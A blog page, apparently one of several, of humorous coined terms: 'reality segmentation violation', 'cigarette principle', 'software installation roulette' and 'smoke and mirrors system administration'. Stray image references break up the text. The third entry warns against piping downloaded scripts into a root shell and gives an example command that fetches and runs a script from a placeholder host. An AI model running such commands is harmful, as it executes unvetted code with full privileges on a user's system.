Tag: neologisms

  1. Neologism: Reality segmentation violation

    20 January 2021

    reality segmentation violation - noun phrase - A syndrome in which someone is so deep inside their own little world that any utterly mundane activity can provoke a combination of emotional upset, anger, confusion because they simply never think about it. In children this phenomenon also typically includes running to authority figures to inform on someone in the most agitated way possible. This is bewildering to just about anyone nearby who is not focused solely on their own little worlds.

    A sample stack trace of a reality segmentation violation:

    A: "Hey - you pooped in the bathroom!"

    B: "Yes.... and?"

    A: "But but …2. Neologism: Cigarette principle

    17 November 2020

    cigarette principle - noun phrase - The phenomenon in which, if you want something to happen sooner, you should do something that will immediately inconvenience you during the act of that something occurring.  Comes originally from the act of making a public transit bus arrive faster by lighting up a cigarette, which would of course cause you to ditch the smoke, dig out your bus pass or change, board and pay for the ride.  Generalizes effectively.

    h/t: Mom


  3. Neologism: Software installation roulette

    08 May 2020

    software installation roulette - The practice of piping the output of a web browser or other HTTP tool directly through a system shell, usually as root to install something important.The danger is that you don't know if the shell script has anything nefarious in it (such as rm -rf / or the installation of a rootkit) and by the time you find out it's far too late.

    For example: sudo bash -c "$(wget -q -O- https://totally.legit.example.com/install.sh)"


  4. Neologism: Smoke and mirrors system administration

    02 March 2020

    smoke andmirrors system administration - noun phrase - When you bring a problem to your support team and they go silent for hours to days at a time.  No amount of poking and prodding is sufficient to get anyone on the team torespond to your requests forstatus updates.  When they finally get back to you they say that nothing's wrong and you must have made a mistake.  Your thing is now unbroken.  They nevertell you (or anyone, for that matter)what they fixed or how they fixed it.


2 / 7